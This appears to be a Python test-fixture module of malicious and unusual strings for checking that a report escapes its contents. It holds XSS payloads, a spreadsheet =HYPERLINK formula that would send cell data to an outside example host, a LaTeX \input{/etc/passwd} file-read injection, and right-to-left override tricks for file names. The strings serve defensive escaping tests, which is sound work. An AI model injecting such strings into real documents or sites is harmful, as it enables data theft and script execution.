"""Texts that mean harm, or that nobody foresaw, for the phrases, answers and file names of a report."""

MARKUP = (
    "</script><script>document.title = 'taken'</script>"
    "<img src=x onerror=\"document.title = 'taken'\">=1+1 \u2028 \u202egnp"
)
FORMULA = '=HYPERLINK("http://a.example/?"&A1,"b") \\input{/etc/passwd} $x_1^2$ 100% #1 & ~'
HEBREW = "כלי דם 12 עורק \U0001f600 血管"
LONG = "vessel " * 1429  # 10,000 characters
FILE = "\"><img src=x onerror=document.title='taken'> =1+1 \u202egnp"  # no slash: it names a file
PATIENT = "=1+1<b onclick=alert(1)>"
ANSWER = "</script><svg onload=\"document.title = 'taken'\"></svg> [SEG]."
ERROR = "</td><script>document.title = 'taken'</script> -- out of memory <b>"
